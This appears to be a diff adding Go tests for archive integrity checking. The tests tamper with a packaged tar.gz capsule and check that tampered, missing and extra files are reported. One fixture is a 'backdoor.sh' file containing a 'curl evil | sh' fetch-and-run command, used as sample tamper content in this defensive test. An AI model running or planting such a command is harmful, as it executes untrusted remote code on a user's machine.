@@ -0,0 +1,202 @@
+package quantumcapsule
+
+import (
+	"archive/tar"
+	"bytes"
+	"compress/gzip"
+	"fmt"
+	"io"
+	"testing"
+)
+
+func testCapsule(t *testing.T) *QuantumCapsule {
+	t.Helper()
+	cap, err := CreateCapsule("wf-1", []CapsuleFile{
+		{Path: "main.go", Content: "package main\n", Mode: 0644},
+		{Path: "go.mod", Content: "module example\n", Mode: 0644},
+		{Path: "README.md", Content: "# Example\n", Mode: 0644},
+	}, nil)
+	if err != nil {
+		t.Fatalf("CreateCapsule: %v", err)
+	}
+	return cap
+}
+
+// entry is a file in a tar archive
+type entry struct {
+	name    string
+	content []byte
+}
+
+func readArchive(t *testing.T, data []byte) []entry {
+	t.Helper()
+	gz, err := gzip.NewReader(bytes.NewReader(data))
+	if err != nil {
+		t.Fatalf("gzip: %v", err)
+	}
+	tr := tar.NewReader(gz)
+
+	var entries []entry
+	for {
+		header, err := tr.Next()
+		if err == io.EOF {
+			return entries
+		}
+		if err != nil {
+			t.Fatalf("tar: %v", err)
+		}
+		content, err := io.ReadAll(tr)
+		if err != nil {
+			t.Fatalf("read %s: %v", header.Name, err)
+		}
+		entries = append(entries, entry{name: header.Name, content: content})
+	}
+}
+
+func writeArchive(t *testing.T, entries []entry) []byte {
+	t.Helper()
+	var buf bytes.Buffer
+	gz := gzip.NewWriter(&buf)
+	tw := tar.NewWriter(gz)
+	for _, e := range entries {
+		if err := tw.WriteHeader(&tar.Header{Name: e.name, Mode: 0644, Size: int64(len(e.content))}); err != nil {
+			t.Fatalf("write header: %v", err)
+		}
+		if _, err := tw.Write(e.content); err != nil {
+			t.Fatalf("write %s: %v", e.name, err)
+		}
+	}
+	if err := tw.Close(); err != nil {
+		t.Fatalf("close tar: %v", err)
+	}
+	if err := gz.Close(); err != nil {
+		t.Fatalf("close gzip: %v", err)
+	}
+	return buf.Bytes()
+}
+
+func TestVerifyCapsule(t *testing.T) {
+	tests := []struct {
+		name           string
+		modify         func(entries []entry) []entry
+		wantValid      bool
+		wantMismatched []string
+		wantMissing    []string
+		wantUnexpected []string
+	}{
+		{
+			name:      "untouched",
+			modify:    func(entries []entry) []entry { return entries },
+			wantValid: true,
+		},
+		{
+			name: "tampered file",
+			modify: func(entries []entry) []entry {
+				for i := range entries {
+					if entries[i].name == "main.go" {
+						entries[i].content = []byte("package main\n\nfunc init() { panic(\"owned\") }\n")
+					}
+				}
+				return entries
+			},
+			wantMismatched: []string{"main.go"},
+		},
+		{
+			name: "missing file",
+			modify: func(entries []entry) []entry {
+				kept := entries[:0]
+				for _, e := range entries {
+					if e.name != "go.mod" {
+						kept = append(kept, e)
+					}
+				}
+				return kept
+			},
+			wantMissing: []string{"go.mod"},
+		},
+		{
+			name: "extra file",
+			modify: func(entries []entry) []entry {
+				return append(entries, entry{name: "backdoor.sh", content: []byte("curl evil | sh\n")})
+			},
+			wantUnexpected: []string{"backdoor.sh"},
+		},
+		{
+			name: "tampered, missing and extra",
+			modify: func(entries []entry) []entry {
+				var out []entry
+				for _, e := range entries {
+					switch e.name {
+					case "README.md":
+						continue
+					case "main.go":
+						e.content = []byte("package evil\n")
+					}
+					out = append(out, e)
+				}
+				return append(out, entry{name: "extra.txt", content: []byte("x")})
+			},
+			wantMismatched: []string{"main.go"},
+			wantMissing:    []string{"README.md"},
+			wantUnexpected: []string{"extra.txt"},
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			cap := testCapsule(t)
+			packaged, err := cap.PackageAsTarGz()
+			if err != nil {
+				t.Fatalf("PackageAsTarGz: %v", err)
+			}
+			data := writeArchive(t, tt.modify(readArchive(t, packaged)))
+
+			got, report, err := VerifyCapsule(data, nil)
+			if err != nil {
+				t.Fatalf("VerifyCapsule: %v", err)
+			}
+			if got.ID != cap.ID {
+				t.Fatalf("capsule ID = %s, want %s", got.ID, cap.ID)
+			}
+			if report.Valid != tt.wantValid {
+				t.Fatalf("Valid = %v, want %v (report %+v)", report.Valid, tt.wantValid, report)
+			}
+			if report.ExpectedDigest != cap.Checksum {
+				t.Fatalf("ExpectedDigest = %s, want %s", report.ExpectedDigest, cap.Checksum)
+			}
+			if tt.wantValid != (report.ActualDigest == report.ExpectedDigest) {
+				t.Fatalf("ActualDigest = %s, ExpectedDigest = %s", report.ActualDigest, report.ExpectedDigest)
+			}
+			for _, c := range []struct {
+				field     string
+				got, want []string
+			}{
+				{"Mismatched", report.Mismatched, tt.wantMismatched},
+				{"Missing", report.Missing, tt.wantMissing},
+				{"Unexpected", report.Unexpected, tt.wantUnexpected},
+			} {
+				if fmt.Sprint(c.got) != fmt.Sprint(c.want) {
+					t.Errorf("%s = %v, want %v", c.field, c.got, c.want)
+				}
+			}
+		})
+	}
+}
+
+func TestVerifyCapsuleUnreadable(t *testing.T) {
+	tests := []struct {
+		name string
+		data []byte
+	}{
+		{"not gzip", []byte("not an archive")},
+		{"no metadata", writeArchive(t, []entry{{name: manifestFileName, content: []byte("{}")}})},
+		{"no manifest", writeArchive(t, []entry{{name: metadataFileName, content: []byte("{}")}})},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if _, _, err := VerifyCapsule(tt.data, nil); err == nil {
+				t.Fatal("VerifyCapsule succeeded, want an error")
+			}
+		})
+	}
+}